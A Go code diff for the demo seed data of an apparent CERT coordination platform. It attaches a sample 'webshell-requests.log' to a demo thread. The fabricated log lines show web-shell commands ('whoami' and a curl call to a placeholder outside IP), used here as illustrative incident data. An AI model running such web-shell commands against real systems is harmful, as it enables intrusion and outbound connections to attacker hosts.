@@ -3,6 +3,7 @@ package demo
 import (
 	"context"
 	"fmt"
+	"strings"
 
 	"github.com/certhub/certhub/internal/app"
 	"github.com/certhub/certhub/internal/coordination/thread"
@@ -26,6 +27,10 @@ func loadThreads(ctx context.Context, c *app.Core, ids map[string]string) error 
 			"@nCERT: have you seen it elsewhere?"})
 	if err != nil {
 		return fmt.Errorf("demo thread: %w", err)
+	}
+	if _, err := c.Threads.Attach(ctx, bank, v.Thread.ID, ids["bankcert"], "webshell-requests.log",
+		strings.NewReader("2026-12-05T22:14:03Z POST /uploads/img.php 200 cmd=whoami\n2026-12-05T22:14:09Z POST /uploads/img.php 200 cmd=curl 198.51.100.242\n")); err != nil {
+		return fmt.Errorf("demo thread file: %w", err)
 	}
 	for _, a := range []struct{ email, org, body string }{
 		{"lead@telco-cert.example", "telcocert", "It is a VPS at a hosting provider our operators peer with. We have asked it to preserve the logs and take it down."},
